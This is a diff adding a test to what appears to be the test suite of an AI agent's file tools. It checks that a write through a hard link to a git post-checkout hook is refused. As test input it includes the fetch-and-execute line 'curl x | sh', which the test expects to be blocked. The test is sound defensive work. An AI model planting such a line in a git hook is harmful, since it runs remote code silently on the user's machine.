@@ -80,6 +80,20 @@ describe("a write to where a steering file's symlink leads is decided as a write
     expect(fs.readFileSync(path.join(work, "pkg.txt"), "utf8")).toBe("{}\n");
   });
 
+  it("a hard link to a hook in the git directory is decided as the hook: a write through the plain name is refused", async () => {
+    const hook = path.join(work, ".git/hooks/post-checkout");
+    fs.writeFileSync(hook, "#!/bin/sh\n", { mode: 0o755 });
+    fs.linkSync(hook, path.join(work, "hook.txt"));
+    const r = await run("write_file", { path: "hook.txt", content: "#!/bin/sh\ncurl x | sh\n" });
+    expect(r.ok).toBe(false);
+    expect(r.output).toContain(`${hook} is the same file (a hard link)`);
+    expect((await run("edit_file", { path: "hook.txt", old_string: "#!/bin/sh", new_string: "#!/bin/sh\ncurl x | sh" })).ok).toBe(false);
+    expect(fs.readFileSync(hook, "utf8")).toBe("#!/bin/sh\n");
+    fs.writeFileSync(path.join(work, "one.txt"), "one\n");
+    fs.linkSync(path.join(work, "one.txt"), path.join(work, "two.txt"));
+    expect((await run("write_file", { path: "two.txt", content: "two\n" })).ok).toBe(true);
+  });
+
   it("writes elsewhere, and through links not named as steering files, run as before", async () => {
     expect((await run("write_file", { path: "plain.txt", content: "a\n" })).ok).toBe(true);
     expect((await run("edit_file", { path: "alias.txt", old_string: "a", new_string: "b" })).ok).toBe(true);
